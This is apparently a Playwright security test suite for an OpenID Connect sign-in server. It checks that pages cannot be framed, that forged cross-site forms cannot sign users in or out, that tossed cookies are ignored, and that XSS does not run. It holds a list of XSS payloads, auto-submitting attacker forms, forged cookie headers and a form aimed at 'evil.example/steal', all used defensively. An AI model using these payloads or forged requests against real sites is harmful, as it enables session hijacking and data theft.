// Attacks that only a browser can judge: framing, forged forms, cookies of neighbours, scripts in names. Each name begins with the id of
// its case in docs/security-cases.md.
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, afterEach, before, beforeEach, describe, test } from 'node:test';

import { chromium } from 'playwright-core';

import { LAUNCH, allow, signIn } from '../support/chromium.mjs';
import { Gatekey, USER, databasesOf, freePort } from '../support/gatekey.mjs';

const CHALLENGE = 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM'; // RFC 7636 Appendix B

/** What a script of an attacker's would do, in the ways names and addresses can hold one. */
const PAYLOADS = [
  '<script>window.hit=1</script>',
  '"><img src=x onerror=window.hit=1>',
  "'><svg onload=window.hit=1>",
  '</title></h1><iframe srcdoc="<script>parent.hit=1</script>">',
  'javascript:window.hit=1',
  '" autofocus onfocus="window.hit=1',
  '<a href="javascript:window.hit=1">x</a>',
  '{{ 7777*7 }}',
  '&lt;script&gt;window.hit=1&lt;/script&gt;',
  '\u202e<script>window.hit=1</script>',
];

/** A server whose pages the test writes: the application's, and an attacker's. */
function serve(port, pages) {
  const server = http.createServer((request, answer) => {
    const path = new URL(request.url, 'http://x').pathname;
    const { status = 200, headers = {}, html = '<p>Application</p>' } = pages[path] ?? {};
    answer.statusCode = status;
    for (const [name, value] of Object.entries(headers)) answer.setHeader(name, value);
    answer.setHeader('content-type', 'text/html; charset=utf-8');
    answer.end(`<!doctype html><html lang="en"><title>Page</title><link rel="icon" href="data:,">${html}`);
  });
  return new Promise((resolve) => server.listen(port, '127.0.0.1', () => resolve(server)));
}

for (const kind of databasesOf(import.meta.url)) {
  describe(kind, () => {
    let gatekey, servers, pages, origin, evil, browser, context, page, hits;

    before(async () => {
      const [applicationPort, evilPort] = [await freePort(), await freePort()];
      origin = `http://localhost:${applicationPort}`;
      evil = `http://127.0.0.1:${evilPort}`; // another site than localhost
      pages = {};
      // A callback that goes on to the application's other origin, as one at an API does.
      const goesOn = { headers: { location: `${evil}/home` }, status: 302 };
      servers = [await serve(applicationPort, { '/goes-on': goesOn }), await serve(evilPort, pages)];
      const named = PAYLOADS.map(
        (name, i) => `
[[clients]]
id = "named-${i}"
name = ${JSON.stringify(name)}
kind = "spa"
redirect_uris = ["${origin}/callback"]
`,
      ).join('');
      gatekey = await Gatekey.install(kind, {
        clients: `
[[clients]]
id = "page"
name = "A page"
kind = "spa"
redirect_uris = ["${origin}/callback", "${origin}/goes-on"]
post_logout_redirect_uris = ["${origin}/", "${origin}/goes-on"]

[[clients]]
id = "own"
name = "Our own"
kind = "spa"
first_party = true
redirect_uris = ["${origin}/callback"]
${named}`,
      });
      gatekey.createUser();
      gatekey.run(['user', 'create', 'mallory', '--name', PAYLOADS[1]], `${USER.password}\n`);
      await gatekey.start();
      browser = await chromium.launch(LAUNCH);
    });
    after(async () => {
      await browser?.close();
      for (const server of servers ?? []) {
        server.closeAllConnections();
        server.close();
      }
      await gatekey?.remove();
    });
    beforeEach(async () => {
      context = await browser.newContext({ locale: 'en-US' });
      page = await context.newPage();
      hits = [];
      page.on('dialog', (dialog) => {
        hits.push(dialog.message());
        dialog.dismiss();
      });
    });
    afterEach(() => context.close());

    function authorize(changes = {}) {
      const url = new URL('authorize', gatekey.issuer);
      const parameters = { client_id: 'own', response_type: 'code', redirect_uri: `${origin}/callback`, scope: 'openid', state: 's', nonce: 'n', code_challenge: CHALLENGE, code_challenge_method: 'S256', ...changes };
      for (const [name, value] of Object.entries(parameters)) url.searchParams.set(name, value);
      return url.href;
    }

    const at = (path) => new URL(path, gatekey.issuer).href;
    const answer = () => Object.fromEntries(new URL(page.url()).searchParams);
    const sessionCookie = async () => (await context.cookies(gatekey.issuer)).find(({ name }) => /^__Host-gatekey-[0-9a-f]{8}$/.test(name));

    async function signedIn(user = USER) {
      await page.goto(authorize());
      await signIn(page, user);
      await page.waitForURL(`${origin}/callback?**`);
      assert.ok(answer().code);
    }

    /** Whether a request without a page finds somebody signed in. */
    async function somebodyIsSignedIn() {
      const tab = await context.newPage();
      await tab.goto(authorize({ prompt: 'none' }));
      const { code, error } = Object.fromEntries(new URL(tab.url()).searchParams);
      await tab.close();
      assert.ok(code || error === 'login_required', error);
      return Boolean(code);
    }

    /** No script of theirs has run, in the page or in a frame of it. */
    async function isInert(what) {
      for (const frame of page.frames()) assert.equal(await frame.evaluate(() => window.hit), undefined, what);
      assert.deepEqual(hits, [], what);
      assert.equal(page.frames().length, 1, what);
    }

    test('UI-01 no page can be framed', async () => {
      await signedIn();
      const looked = [authorize({ prompt: 'login' }), authorize({ client_id: 'page' }), authorize({ prompt: 'select_account' }), authorize({ response_mode: 'form_post' }), at('oidc/logout'), at('authorize'), at('login'), at('setup?link=x'), at('nothing'), at('')];
      await page.goto(`${origin}/`);
      const framed = async (src) => {
        await page.evaluate(async (src) => {
          const frame = document.createElement('iframe');
          frame.src = src;
          await new Promise((resolve) => ((frame.onload = resolve), document.body.append(frame)));
        }, src);
        const shown = page.frames().at(-1).url();
        await page.evaluate(() => document.querySelectorAll('iframe').forEach((frame) => frame.remove()));
        return shown;
      };
      for (const url of looked) assert.equal(await framed(url), 'chrome-error://chromewebdata/', `${url} was shown in a frame`);
      // The control: a page that may be framed is, and so is the answer of a request without a page.
      assert.equal(await framed(`${origin}/control`), `${origin}/control`);
      assert.match(await framed(authorize({ prompt: 'none' })), /callback\?code=/);
    });

    test('UI-02 a form of another site signs nobody in', async () => {
      const own = await context.newPage();
      await own.goto(at('login')); // The victim has the cookies of the pages.
      pages['/login'] = { html: `<form method="post" action="${at('login')}"><input name="username" value="mallory"><input name="password" value="${USER.password}"><input name="csrf" value="x"></form><script>document.forms[0].submit()</script>` };
      for (const fresh of [false, true]) {
        if (fresh) await context.clearCookies();
        const [response] = await Promise.all([page.waitForResponse((response) => response.url() === at('login') && response.request().method() === 'POST'), page.goto(`${evil}/login`)]);
        assert.equal(response.status(), 403);
        assert.equal(await sessionCookie(), undefined);
      }
      assert.equal(await somebodyIsSignedIn(), false);
      // The control: the page's own form.
      await page.goto(at('login'));
      await signIn(page, USER);
      await page.waitForURL(gatekey.issuer);
      assert.ok(await sessionCookie());
    });

    test('UI-04 neither a link, an image nor a form of another site signs anybody out', async () => {
      await signedIn();
      const cookie = await sessionCookie();
      pages['/logout'] = { html: `<img src="${at('oidc/logout')}" alt=""><iframe src="${at('oidc/logout')}"></iframe>` };
      pages['/post'] = { html: `<form method="post" action="${at('oidc/logout')}"></form><script>document.forms[0].submit()</script>` };
      pages['/confirm'] = { html: `<form method="post" action="${at('oidc/logout/confirm')}"><input name="decision" value="allow"></form><script>document.forms[0].submit()</script>` };
      await page.goto(`${evil}/logout`);
      for (const path of ['/post', '/confirm']) {
        await Promise.all([page.waitForURL((url) => url.origin === new URL(gatekey.issuer).origin), page.goto(`${evil}${path}`)]);
      }
      await page.goto(at('oidc/logout'));
      assert.equal((await sessionCookie()).value, cookie.value);
      assert.ok(await somebodyIsSignedIn());
      // The control: a click on the page that asks.
      await allow(page);
      await page.waitForURL(at('oidc/logout/confirm'));
      assert.equal(await sessionCookie(), undefined);
      assert.equal(await somebodyIsSignedIn(), false);
    });

    test('UI-07 cookies that a neighbour sets neither pass for ours nor hide ours', async () => {
      await signedIn();
      const ours = await sessionCookie();
      const plain = ours.name.slice('__Host-'.length);
      // A server on another port of the same host: cookies know no ports. What the browser lets it set of these is the browser's to say.
      const port = await freePort();
      const junk = Array.from({ length: 100 }, (_, i) => `junk${i}=${'x'.repeat(30)}; Path=/`);
      const tossed = [
        `${ours.name}=evil; Domain=localhost; Path=/; Secure`,
        `${ours.name}=evil; Path=/oidc; Secure`,
        `${ours.name}=evil; Path=/`,
        `${plain}=evil; Path=/`,
        `__Secure-${plain}=evil; Path=/; Secure`,
        `${ours.name.toUpperCase()}=evil; Path=/`,
        `=${ours.name}=evil; Path=/`,
        `${ours.name}x=evil; Path=/; Secure`,
        Buffer.from(`\u2000${ours.name}=evil; Path=/`).toString('latin1'),
        Buffer.from('\u043a\u043b\u044e\u0447=\u0437\u043d\u0430\u0447; Path=/').toString('latin1'),
        'novalue; Path=/',
        ...junk,
      ];
      const neighbour = await serve(port, { '/toss': { headers: { 'set-cookie': tossed } } });
      await page.goto(`http://localhost:${port}/toss`);
      neighbour.closeAllConnections();
      neighbour.close();
      const after = await context.cookies(gatekey.issuer);
      assert.ok(after.length > 100 && after.some(({ name }) => name === plain), 'the neighbour did set cookies');
      assert.equal((await sessionCookie()).value, ours.value);
      assert.ok(await somebodyIsSignedIn());
      await page.goto(gatekey.issuer);
      assert.match(await page.locator('main').innerText(), /Alice Example/);
      // And a sign-in page still works among them.
      await page.goto(authorize({ prompt: 'login' }));
      await signIn(page, USER);
      await page.waitForURL(`${origin}/callback?**`);
      assert.ok(answer().code);
    });

    test('ER-07 text in an address does not run', async () => {
      for (const payload of PAYLOADS) {
        for (const name of ['state', 'login_hint', 'ui_locales', 'client_id', 'redirect_uri', 'error_description', 'nonce']) {
          await page.goto(authorize({ prompt: 'login', redirect_uri: 'https://evil.test/', [name]: payload }));
          await isInert(`${name}=${payload}`);
        }
        await page.goto(`${authorize({ login_hint: payload })}#${payload}`);
        await isInert(`login_hint=${payload}`);
        assert.equal(await page.locator('input[name=username]').inputValue(), payload, 'it is there, as text');
        for (const path of ['', 'login', 'oidc/logout', 'setup', 'nothing']) {
          await page.goto(`${at(path)}?error=${encodeURIComponent(payload)}&link=${encodeURIComponent(payload)}#${encodeURIComponent(payload)}`);
          await page.evaluate((payload) => window.postMessage(payload, '*'), payload);
          await isInert(`${path}: ${payload}`);
        }
      }
    });

    test('RM-01 a form post sends what was sent, and runs nothing of it', async () => {
      await signedIn();
      for (const payload of PAYLOADS) {
        const [request] = await Promise.all([
          page.waitForRequest((request) => request.url() === `${origin}/callback` && request.method() === 'POST'),
          page.goto(authorize({ response_mode: 'form_post', state: payload })),
        ]);
        const sent = new URLSearchParams(request.postData());
        assert.equal(sent.get('state'), payload);
        assert.ok(sent.get('code'));
        assert.equal(sent.get('iss'), gatekey.issuer);
        assert.deepEqual(hits, []);
      }
    });

    test('UI-14 names that others have written do not run', async () => {
      const mallory = { name: 'mallory', password: USER.password };
      await signedIn(mallory);
      for (const i of PAYLOADS.keys()) {
        await page.goto(authorize({ client_id: `named-${i}` }));
        await isInert(`consent: ${PAYLOADS[i]}`);
        const shown = (await page.locator('main').innerText()).replaceAll(/\s+/g, ' ');
        const expected = PAYLOADS[i].replace('\u202e', '');
        assert.ok(shown.includes(expected), `${expected} is shown as it is: ${shown}`);
        assert.ok(shown.includes(PAYLOADS[1]), 'so is the name of the user');
        await page.goto(authorize({ client_id: `named-${i}`, prompt: 'login' }));
        await isInert(`sign-in: ${PAYLOADS[i]}`);
      }
      for (const url of [at(''), at('oidc/logout'), authorize({ prompt: 'select_account' })]) {
        await page.goto(url);
        await isInert(url);
      }
    });

    test('UI-16 the policy bites: no script that is put in runs, no form goes elsewhere', async () => {
      await page.goto(authorize());
      const script = await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'window.hit = 1';
        document.body.append(script);
        const image = document.createElement('img');
        image.setAttribute('onerror', 'window.hit = 1');
        image.src = '/nothing';
        document.body.append(image);
        return window.hit;
      });
      assert.equal(script, undefined);
      await isInert('put in');
      const blocked = await page.evaluate(
        (evil) =>
          new Promise((resolve) => {
            document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
            const form = document.querySelector('form');
            form.action = evil;
            form.noValidate = true;
            form.submit();
          }),
        'http://evil.example/steal', // not of this machine, where the application is, and not https
      );
      assert.equal(blocked, 'form-action');
      assert.equal(new URL(page.url()).origin, new URL(gatekey.issuer).origin);
    });

    // Chromium holds all redirects after a form to the policy of the form's page.
    test('UI-16 an application may go on to where it likes from its callback', async () => {
      const redirect_uri = `${origin}/goes-on`;
      const third = { client_id: 'page', redirect_uri };
      await page.goto(authorize(third));
      await signIn(page, USER);
      await allow(page);
      await page.waitForURL(`${evil}/home`);
      await page.goto(authorize({ ...third, prompt: 'login', response_mode: 'form_post' }));
      await page.locator('input[name=password]').fill(USER.password);
      await page.locator('button[type=submit]').first().click();
      await page.waitForURL(`${evil}/home`);
      const end = new URL(at('oidc/logout'));
      end.search = new URLSearchParams({ client_id: 'page', post_logout_redirect_uri: redirect_uri });
      await page.goto(end.href);
      await allow(page);
      await page.waitForURL(`${evil}/home`);
      assert.equal(await somebodyIsSignedIn(), false);
    });

    test('UI-18 going back after signing out shows nothing of the user', async () => {
      await signedIn();
      await page.goto(gatekey.issuer);
      assert.match(await page.locator('main').innerText(), /Alice Example/);
      await page.locator('a[href$="oidc/logout"]').click();
      await allow(page);
      await page.waitForURL(at('oidc/logout/confirm'));
      await page.goto(`${origin}/`);
      for (let steps = 0; steps < 4; steps++) {
        await page.goBack().catch(() => null); // A form's answer is not fetched again: the browser says so on a page of its own.
        assert.doesNotMatch(await page.locator('body').innerText(), /Alice Example/);
      }
    });

    test('UI-21 a password can be pasted, and is not shown', async () => {
      await page.goto(authorize());
      await page.locator('input[name=username]').fill(USER.password);
      await page.locator('input[name=username]').press('ControlOrMeta+a');
      await page.locator('input[name=username]').press('ControlOrMeta+c');
      await page.locator('input[name=password]').press('ControlOrMeta+v');
      assert.equal(await page.locator('input[name=password]').inputValue(), USER.password);
      assert.equal(await page.locator('input[name=password]').getAttribute('type'), 'password');
      await page.locator('input[name=username]').fill(USER.name);
      await page.locator('input[name=password]').press('Enter');
      await page.waitForURL(`${origin}/callback?**`);
      assert.ok(answer().code);
    });
  });
}
